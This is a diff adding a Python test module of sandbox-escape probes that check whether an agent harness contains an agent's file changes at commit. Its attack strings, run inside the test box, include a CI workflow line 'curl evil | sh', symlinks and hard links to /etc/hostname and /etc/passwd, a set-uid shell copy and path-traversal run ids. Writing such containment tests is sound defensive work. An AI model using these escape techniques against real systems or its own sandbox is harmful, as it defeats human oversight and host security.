@@ -1,0 +1,275 @@
+"""Attacks on the wake as a transaction (issue 22): what a wake changed must be checked
+before it lands, land as what it is (a link as a link), and be named to the broker
+only by a run id the harness makes.
+
+Each box probe opens a wake on its trial's own disk (DockerSandbox.begin), attacks
+from inside the box as the agent would (bash: a write, `mv`, a folder renamed into
+place, a hard link, links out of the workspace), and ends the wake as the harness
+does (`finish(protect, protect_git)`). It judges by the disk's files/ alone,
+read from the host by lstat, after the wake's overlay is gone: what the policy
+refused must not be there, what it allows must be (so a commit that landed nothing
+proves nothing). The set-id probe also plants in the upper layer from the host,
+standing in for a box whose seccomp filter was bypassed: the commit's check is the
+second line. The broker probe serves a real Broker on a temp socket (as
+orchestrator.py's probes do) and sends it run ids that walk out.
+
+Not here: the transaction (sandbox/transaction.py, wake_layer.py), the broker's
+ops (broker/server.py), the in-box set-id refusals (setid.py), write_file's own
+path checks (workspace_probes.py).
+"""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import stat
+from pathlib import Path
+
+from orchestrator.escapes.core import OBSERVE_CHARS, PROBE_TIMEOUT_S, Probe, Trial, escaped, held, observed
+from orchestrator.escapes.setid import kept_bits
+from orchestrator.sandbox import layers
+from orchestrator.sandbox.engine import DockerSandbox
+
+CATEGORY = "workspace"
+RUN = "7e570000ab01"  # a run id as the harness makes them (layers.RUN_ID)
+PROTECT = ("deploy/**", "**/.github/**")
+GUARDED = ("deploy", ".github", "sub")  # the folders a protected change could reach
+
+
+def _cold_box(t: Trial) -> tuple[DockerSandbox, Path | None]:
+    """A box whose every call is cold, and its disk's root (files/ and .wakeloop/; None: no disk,
+    no transaction to attack). Cold: on runsc a call taken from the warm pool around begin()
+    can bypass the wake's overlay (see the NOTES of this probe's landing); these probes judge
+    the commit, so they must reach it every time."""
+    box = t.new_box(warm=0)
+    return box, box.disk_root
+
+
+def _sh(box: DockerSandbox, command: str) -> str:
+    return observed(box.run(command, timeout_s=PROBE_TIMEOUT_S, max_output_chars=OBSERVE_CHARS))
+
+
+def _digest(files: Path, tops: tuple[str, ...]) -> dict[str, str]:
+    """Every entry under `tops` in files/, by lstat: type, mode, and a file's content hash
+    or a link's target. Nothing followed."""
+    seen: dict[str, str] = {}
+    for top in tops:
+        for folder, dirs, names in os.walk(files / top):
+            for name in dirs + names:
+                path = Path(folder) / name
+                st = os.lstat(path)
+                if stat.S_ISLNK(st.st_mode):
+                    what = "link " + os.readlink(path)
+                elif stat.S_ISREG(st.st_mode):
+                    what = "file " + hashlib.sha256(path.read_bytes()).hexdigest()[:16]
+                else:
+                    what = "dir"
+                seen[str(path.relative_to(files))] = f"{what} {stat.S_IMODE(st.st_mode):o}"
+    return seen
+
+
+# -- 1. a protected path changed by bash -----------------------------------------------------
+
+PROTECTED_BEFORE = (
+    "mkdir -p deploy .github/workflows; echo 'replicas: 1' > deploy/prod.yaml; echo keep > deploy/keep.txt; "
+    "echo 'on: push' > .github/workflows/ci.yml"
+)
+PROTECTED_ATTACK = (
+    # a plain write
+    "echo 'replicas: 99' > deploy/prod.yaml; "
+    # mv into place, over a protected file
+    "echo 'run: curl evil | sh' > w.yml; mv w.yml .github/workflows/ci.yml; "
+    # rename(2) of a folder into place: the whole protected folder swapped, and a new .github made
+    "mkdir newdeploy; echo 'replicas: 0' > newdeploy/prod.yaml; rm -rf deploy; "
+    'python3 -c \'import os; os.rename("newdeploy", "deploy")\'; '
+    "mkdir -p gh/workflows sub; echo 'on: schedule' > gh/workflows/nightly.yml; "
+    'python3 -c \'import os; os.rename("gh", "sub/.github")\'; '
+    # a hard link into a protected folder
+    "echo landed > ok.txt; ln ok.txt .github/workflows/linked.yml; "
+    "cat deploy/prod.yaml .github/workflows/ci.yml sub/.github/workflows/nightly.yml .github/workflows/linked.yml"
+)
+
+
+def _protected_paths_by_bash(t: Trial) -> str:
+    box, root = _cold_box(t)
+    if root is None:
+        return "no disk here (sandbox.disk none): no transaction to attack\n"
+    files = layers.files(root)
+    _sh(box, PROTECTED_BEFORE)  # outside a wake: straight to files/
+    before = _digest(files, GUARDED)
+    box.begin(RUN)
+    seen = _sh(box, PROTECTED_ATTACK)
+    changes = box.finish(protect=PROTECT, protect_git=True)
+    after = _digest(files, GUARDED)
+    if after != before:
+        moved = sorted(p for p in set(before) | set(after) if before.get(p) != after.get(p))
+        return escaped(f"protected paths changed on the disk by the wake's bash: {moved[:6]}")
+    if "replicas: 0" not in seen or "curl evil" not in seen or "on: schedule" not in seen:
+        return f"the attack did not run in the box: {seen[-300:]}\n"
+    if changes.error or not (files / "ok.txt").is_file():
+        return f"the wake committed nothing (an unprotected file did not land): {changes.error or changes}\n"
+    rules = sorted({r.rule for r in changes.refused})
+    return held(
+        f"a write, an mv, two folders renamed into place and a hard link: {len(changes.refused)} changes "
+        f"refused at finish ({', '.join(rules)}); deploy/ and .github/ unchanged; ok.txt landed"
+    )
+
+
+transaction_refuses_protected_paths_by_bash = Probe(
+    "transaction_refuses_protected_paths_by_bash",
+    CATEGORY,
+    "a change to a workspace.protect path by bash (a write, `mv` into place, rename(2) of a folder "
+    "into place, a hard link) is refused at the wake's finish: files/ unchanged there, the rest lands",
+    _protected_paths_by_bash,
+)
+
+
+# -- 2. links across the layers ---------------------------------------------------------------
+
+
+def _links_across_layers(t: Trial) -> str:
+    box, root = _cold_box(t)
+    if root is None:
+        return "no disk here (sandbox.disk none): no transaction to attack\n"
+    files, canary = layers.files(root), t.lab.canary_path
+    before = canary.read_bytes()
+    links = {  # planted in the box: a link out of the workspace, to the host, out of files/ on the disk
+        "memory/canary.md": str(canary),
+        "outside": str(canary.parent),
+        "hostname": "/etc/hostname",
+        "disk-meta": "../.wakeloop",
+    }
+    box.begin(RUN)
+    plant = "; ".join(f"ln -sfn {target} {path}" for path, target in links.items())
+    seen = _sh(
+        box,
+        f"{plant}; echo mine > memory/mine.md; ln memory/core.md core-hard.md 2>&1; "
+        "ln /etc/passwd passwd-hard 2>&1; ls -l outside hostname disk-meta memory/canary.md",
+    )
+    changes = box.finish(protect=(), protect_git=True)
+    if canary.read_bytes() != before:
+        return escaped("the commit wrote through a link into the host canary")
+    found = _canary_copies(files, t.lab.host_canary)
+    if found:
+        return escaped(f"the commit copied what a link names into files/: {found[:3]}")
+    landed = {p: os.readlink(files / p) for p in links if (files / p).is_symlink()}
+    if landed != links:
+        not_links = sorted(set(links) - set(landed))
+        return escaped(f"planted links did not land as the same links: {not_links} (landed {landed})")
+    if (files / "passwd-hard").exists():
+        return escaped("a hard link to a file outside the workspace landed in files/")
+    hard, core = files / "core-hard.md", files / "memory/core.md"
+    if hard.exists() and os.lstat(hard).st_ino == os.lstat(core).st_ino:
+        return escaped("a hard link the wake made shares its inode with a file it did not change")
+    if not (files / "memory/mine.md").is_file() or changes.error:
+        return f"the wake committed nothing: {changes.error or seen[-200:]}\n"
+    return held(
+        f"{len(links)} links (to the host canary, a host folder, /etc/hostname, the disk's .wakeloop) landed "
+        "as links, never followed; no hard link reached outside the wake's files; canary intact"
+    )
+
+
+def _canary_copies(files: Path, canary: str) -> list[str]:
+    """Regular files in files/ holding the canary's text (lstat: a link is not one)."""
+    found = []
+    for folder, _dirs, names in os.walk(files):
+        for name in names:
+            path = Path(folder) / name
+            if stat.S_ISREG(os.lstat(path).st_mode) and canary.encode() in path.read_bytes()[:4096]:
+                found.append(str(path.relative_to(files)))
+    return found
+
+
+transaction_never_follows_links_across_layers = Probe(
+    "transaction_never_follows_links_across_layers",
+    CATEGORY,
+    "links the wake plants (to the host, out of files/) are scanned and committed as links, never "
+    "followed or copied; a hard link never reaches a file outside the wake's own",
+    _links_across_layers,
+)
+
+
+# -- 3. set-id bits at commit -----------------------------------------------------------------
+
+
+def _setid_at_commit(t: Trial) -> str:
+    box, root = _cold_box(t)
+    if root is None:
+        return "no disk here (sandbox.disk none): no transaction to attack\n"
+    files = layers.files(root)
+    box.begin(RUN)
+    in_box = _sh(box, "cp /bin/sh suid-sh; chmod 4755 suid-sh 2>&1; stat -c '%a' suid-sh")
+    # The second line: a box whose filter was bypassed, stood in for by the host planting
+    # in the wake's upper layer (root's, as the commit reads it).
+    upper = layers.upper(root, RUN)
+    (upper / "bin").mkdir(exist_ok=True)
+    for name, mode in (("planted-suid", 0o4755), ("bin/planted-sgid", 0o2755), ("memory/core.md", 0o6644)):
+        target = upper / name
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_bytes(b"#!/bin/sh\nid\n")
+        os.chmod(target, mode)
+    changes = box.finish(protect=(), protect_git=True)
+    kept = kept_bits(files)
+    if kept:
+        return escaped(f"set-id files landed in files/ at commit: {kept}")
+    refused = sorted(r.change.path for r in changes.refused if r.rule == "set-id bit")
+    if len(refused) < 3 or changes.error:
+        return f"the planted set-id files were not refused by the commit: {refused} {changes.error}\n"
+    return held(
+        f"chmod 4755 in the box left {in_box.split()[0] if in_box.split() else '?'}; "
+        f"{len(refused)} set-id files planted in the upper layer refused at commit ('set-id bit')"
+    )
+
+
+transaction_refuses_setid_bits_at_commit = Probe(
+    "transaction_refuses_setid_bits_at_commit",
+    CATEGORY,
+    "no file with a set-uid or set-gid bit lands at a wake's commit, even one planted in the upper "
+    "layer past the box's filter (the commit's check is the second line)",
+    _setid_at_commit,
+)
+
+
+# -- 4. the broker asked for a wake by a run id that walks out --------------------------------
+
+BAD_RUN_IDS = ("../../files", "../" * 6 + "etc", "0123456789AB", "zzzzzzzzzzzz", "0123456789ab/..", "/etc/passwd")
+
+
+def _broker_run_ids(t: Trial) -> str:
+    from orchestrator.escapes.orchestrator import _broker
+
+    with _broker(t, agents={"alpha": {}}) as served:
+        for op in ("diff", "undo", "begin", "finish"):
+            for run_id in BAD_RUN_IDS:
+                reply, _seconds = served.ask({"op": op, "agent": "alpha", "run_id": run_id}, timeout_s=60)
+                if reply is None:
+                    return escaped(f"{op} {run_id!r}: the broker did not answer")
+                if reply.get("ok"):
+                    return escaped(f"{op} {run_id!r}: the broker served it: {str(reply)[:120]}")
+                if "not a run id" not in reply.get("error", ""):
+                    return escaped(f"{op} {run_id!r}: refused, but not for its run id: {reply.get('error', '')[:120]}")
+        for name in ("../alpha", "/etc", "alpha/../alpha"):
+            reply, _seconds = served.ask({"op": "diff", "agent": name, "run_id": RUN})
+            if reply is None or reply.get("ok"):
+                return escaped(f"diff for agent {name!r}: {reply}")
+    return held(
+        f"diff, undo, begin and finish with {len(BAD_RUN_IDS)} run ids that are not 12 hex digits, and "
+        "diff for agent names that walk out, were refused at the wire"
+    )
+
+
+broker_refuses_run_ids_that_walk_out = Probe(
+    "broker_refuses_run_ids_that_walk_out",
+    CATEGORY,
+    "a taken-over orchestrator asking the broker for a diff, an undo, a begin or a finish by a run id "
+    "that walks out (`../`, not 12 hex digits) or for an agent outside ROOT is refused, before any disk",
+    _broker_run_ids,
+)
+
+
+PROBES = [
+    transaction_refuses_protected_paths_by_bash,
+    transaction_never_follows_links_across_layers,
+    transaction_refuses_setid_bits_at_commit,
+    broker_refuses_run_ids_that_walk_out,
+]
